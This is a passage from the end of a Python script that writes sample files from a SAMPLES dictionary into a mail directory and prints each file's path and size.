    for path, data in SAMPLES.items():
        target = MAIL / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        print(f"{target.relative_to(MAIL.parent.parent)} ({len(data)} bytes)")


if __name__ == "__main__":
    main()
